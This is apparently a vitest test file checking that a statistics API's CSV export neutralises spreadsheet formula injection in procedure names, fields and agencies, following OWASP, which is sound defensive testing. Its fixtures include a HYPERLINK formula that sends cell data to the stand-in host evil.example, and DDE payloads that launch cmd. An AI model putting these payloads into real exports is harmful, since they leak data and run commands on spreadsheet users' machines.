import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { statsResponseSchema } from '../../src/domain/stats.ts';
import { parseCsv } from './support/parse-csv.ts';
import { makeProcedure } from './support/procedures.ts';
import { incoming, makeRating } from './support/rating-fixtures.ts';
import { openStatsEngines, type StatsEngine } from './support/stats-engines.ts';

/**
 * Issue 10 item 5: catalogue names, fields and agencies reach /api/stats.csv verbatim. A cell
 * a spreadsheet would run as a formula (starting with =, +, -, @, tab or CR) is written as text:
 * a leading single quote, and quoted (OWASP). Counts and rates stay numbers; the JSON is as is.
 */

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const PLAIN = 'Đăng ký khai sinh';

// Each formula is a procedure's name, its only field and its only agency.
const PROCEDURES = [
  ...FORMULAS.map((text, i) =>
    makeProcedure(`1.00000${i}`, { name: { vi: text }, fields: [text], agencies: [text] }),
  ),
  makeProcedure('1.001193', { name: { vi: PLAIN }, fields: ['Hộ tịch'], agencies: ['UBND xã'] }),
];
const RATINGS = PROCEDURES.map((p, i) =>
  makeRating({
    procedureCode: p.code,
    province: '79',
    createdAt: `2025-05-${String(1 + i).padStart(2, '0')}T02:00:00.000Z`,
  }),
);
const PERIOD = 'from=2025-05-01&to=2025-05-31';
const TEXT_COLUMNS = ['dimension', 'key', 'label'];

let engines: StatsEngine[] = [];

beforeAll(async () => {
  engines = await openStatsEngines();
  for (const { storage } of engines) {
    await storage.catalog.upsert(PROCEDURES);
    const results = await storage.ratings.insertBatch(RATINGS.map((r) => incoming(r)));
    expect(results.every((r) => r.status === 'accepted')).toBe(true);
  }
});
afterAll(async () => {
  for (const engine of engines) await engine.dispose();
});

async function csvOf(engine: StatsEngine, by: string) {
  const response = await engine.app.inject({ url: `/api/stats.csv?by=${by}&${PERIOD}` });
  expect(response.statusCode).toBe(200);
  const text = response.rawPayload.toString('utf8').slice(1);
  const [header = [], ...records] = parseCsv(text);
  const rows = records.map((r) => Object.fromEntries(header.map((name, i) => [name, r[i] ?? ''])));
  return { text, header, rows };
}

/** How the CSV must write a cell that starts like a formula: quoted, after a single quote. */
function neutralised(value: string): string {
  return `"'${value.replaceAll('"', '""')}"`;
}

describe.each([
  ['procedure', 'label'],
  ['field', 'key'],
  ['agency', 'key'],
])('GET /api/stats.csv?by=%s: a %s that looks like a formula', (by, column) => {
  it('is written as quoted text after a single quote, on every engine', async () => {
    for (const engine of engines) {
      const { text, header, rows } = await csvOf(engine, by);
      const cells = rows.map((r) => r[column]);
      for (const formula of FORMULAS) {
        expect(cells, `${engine.name}: ${JSON.stringify(formula)}`).toContain(`'${formula}`);
        expect(text, `${engine.name}: ${JSON.stringify(formula)} quoted`).toContain(
          neutralised(formula),
        );
      }
      // No text cell starts a formula any more; a plain name is left alone.
      for (const row of rows) {
        for (const name of TEXT_COLUMNS) expect(row[name]).not.toMatch(/^[=+\-@\t\r]/);
      }
      expect(cells).toContain(by === 'procedure' ? PLAIN : by === 'field' ? 'Hộ tịch' : 'UBND xã');
      // The figures stay numbers a spreadsheet reads as such.
      for (const row of rows) {
        for (const name of header.filter((h) => h.endsWith('total'))) {
          expect(row[name], name).toMatch(/^\d+$/);
        }
        for (const name of header.filter((h) => h.endsWith('satisfaction_rate'))) {
          expect(row[name], name).toMatch(/^(\d\.\d{6})?$/);
        }
      }
    }
  });
});

describe('GET /api/stats (JSON) with the same catalogue', () => {
  it('keeps the names, fields and agencies exactly as the catalogue has them', async () => {
    for (const engine of engines) {
      for (const [by, of] of [
        ['procedure', 'label'],
        ['field', 'key'],
        ['agency', 'key'],
      ] as const) {
        const response = await engine.app.inject({ url: `/api/stats?by=${by}&${PERIOD}` });
        const groups = statsResponseSchema.parse(response.json()).groups;
        const values = groups.map((g) => g[of]);
        for (const formula of FORMULAS) expect(values, `${engine.name} ${by}`).toContain(formula);
      }
    }
  });
});
